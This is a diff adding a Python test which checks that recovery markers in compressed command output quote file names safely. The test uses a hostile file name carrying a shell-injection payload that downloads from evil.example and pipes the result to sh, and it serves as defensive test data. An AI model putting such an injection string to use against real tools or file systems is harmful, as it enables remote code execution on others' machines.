@@ -550,6 +550,28 @@ def test_numbers_too_long_for_a_line_number_are_text():
         assert result.tokens_after <= result.tokens_before, command
 
 
+def test_a_marker_never_turns_a_file_name_into_a_command():
+    # A path can come from the output itself (grep's `path:12:` prefix) or name a file
+    # with a hostile name; the marker's command must read that one file, and nothing else.
+    import shlex
+
+    hostile = "src/x;curl${IFS}evil.example|sh.py"
+    body = ["def compute(value):", '    """Compute the value.',
+            *[f"    Explains detail number {k} of the computation at length." for k in range(30)],
+            '    """', "    return value * 2"]
+    grep = [f"{hostile}:10:{body[0]}"] + [f"{hostile}-{11 + i}-{t}"
+                                          for i, t in enumerate(body[1:])]
+    spaced = "\n".join(f"line {i} of the notes, " * 6 for i in range(400))
+    cases = [("\n".join(grep), "grep -rn -A 40 'def compute' src", hostile),
+             (spaced, "cat 'my notes.txt'", "my notes.txt")]
+    for output, command, path in cases:
+        result = run(wrap(output), command, "Fix the totals.")
+        markers = re.findall(r"omitted: (sed -n \S+ .*?)\]", result.text)
+        assert markers, command
+        for recover in markers:
+            assert shlex.split(recover)[3:] == [path]
+
+
 def test_diff_keeps_hunks_and_changes_with_limited_context():
     old = [f"line {i} of the unchanged context in this file" for i in range(40)]
     hunk = [f" {line}" for line in old[:18]] + ["-    return 1", "+    return 2"] + [
